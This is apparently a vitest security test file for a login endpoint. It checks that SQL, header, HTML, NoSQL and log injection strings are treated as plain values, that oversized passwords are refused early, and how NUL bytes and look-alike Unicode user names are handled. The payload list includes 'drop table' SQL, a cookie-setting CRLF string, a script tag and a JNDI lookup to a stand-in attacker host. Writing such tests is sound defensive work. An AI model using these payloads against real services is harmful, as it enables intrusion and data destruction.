/**
 * ATTACKS.md I8: SQL, log, header and HTML injection through every field that a user supplies; a 10 MB password; NUL; confusable user
 * names. Parameters only; escaped; capped; normalised.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PASSWORD, startWorld, type IssuerWorld } from './fixture.ts';

const INJECTIONS = [
  `ann' or '1'='1`,
  `ann'; drop table user_account; --`,
  'ann"; delete from session; --',
  'ann\r\nset-cookie: stolen=1',
  '<script>alert(1)</script>',
  '{"$ne":null}',
  '${jndi:ldap://attacker.test/a}',
  '%00%0d%0a',
  '\u001b[2Jann',
];
let world: IssuerWorld;

beforeAll(async () => {
  world = await startWorld({ loginLimits: { account: { attempts: 1000 }, address: { attempts: 10_000 } } });
});
afterAll(() => world.close());

const login = (difference: object, headers = {}) =>
  world.post('/v1/login', { username: 'ann', password: PASSWORD, client_id: 'app', ...difference }, headers);

describe('I8', () => {
  it.each(['username', 'password', 'client_id', 'scope', 'resource', 'device_token'])(
    'what stands in "%s" of a login is a value, and nothing else',
    async (member) => {
      for (const text of INJECTIONS) {
        const answer = await login({ [member]: text });
        // A device token that is none is no device token.
        const expected = member === 'device_token' ? [200] : [400, 401];
        expect(expected).toContain(answer.status);
        expect(answer.headers.get('set-cookie')).toBeNull();
        if (answer.status !== 200) expect(answer.text).not.toContain(text);
      }
      expect((await login({})).status).toBe(200);
    },
  );

  it('what stands in a header comes back in no header, and in the log on one line', async () => {
    const before = world.log.length;
    const answer = await login({ password: 'wrong' }, { 'user-agent': '<b>x</b>"\\', 'x-request-id': 'a<script>b' });
    expect(answer.headers.get('x-request-id')).toMatch(/^[\w-]{36}$/u);
    for (const line of world.log.slice(before)) expect(JSON.parse(line)).toBeTypeOf('object');
    expect(world.log.slice(before).every((line) => line.trimEnd().split('\n').length === 1)).toBe(true);
    const [told] = await world.issuer.admin.audit.list({ limit: 1 });
    expect(told).toMatchObject({ event: 'login', user_agent: '<b>x</b>"\\' });
  });

  it('a password of 10 MB is refused before it is parsed, and one of more than 1024 bytes before it is hashed', async () => {
    const huge = await login({ password: 'x'.repeat(10 * 1024 * 1024) }).catch(() => undefined);
    if (huge !== undefined) expect(huge.status).toBe(413);
    const started = performance.now();
    expect((await login({ password: 'ä'.repeat(600) })).status).toBe(400);
    expect(performance.now() - started).toBeLessThan(1000);
    expect((await login({})).status).toBe(200);
  });

  it('NUL is a character of a password like any other, and of no user name', async () => {
    await world.issuer.admin.createUser({ username: 'nul', password: `${PASSWORD}\0with NUL` });
    const nul = (password: string) => login({ username: 'nul', password });
    expect((await nul(PASSWORD)).status).toBe(401);
    expect((await nul(`${PASSWORD}\0with more`)).status).toBe(401);
    expect((await nul(`${PASSWORD}\0with NUL`)).status).toBe(200);
    expect((await login({ username: 'ann\0' })).status).toBe(401);
  });

  it.each([
    ['another case', 'ANN'],
    ['full width', 'ａｎｎ'],
    ['a compatibility letter', 'a\u207fn'],
  ])('a name that differs by %s is the same user, and cannot be another', async (_name, username) => {
    expect((await login({ username })).status).toBe(200);
    await expect(world.issuer.admin.createUser({ username, password: PASSWORD })).rejects.toMatchObject({
      code: 'user_exists',
    });
  });

  it.each([
    ['a zero-width space', 'a\u200bnn'],
    ['a direction mark', '\u202eann'],
    ['a soft hyphen', 'a\u00adnn'],
    ['a no-break space', 'ann\u00a0'],
  ])('a name with %s is nobody’s', async (_name, username) => {
    expect((await login({ username })).status).toBe(401);
    await expect(world.issuer.admin.createUser({ username, password: PASSWORD })).rejects.toMatchObject({
      code: 'user_invalid',
    });
  });
});
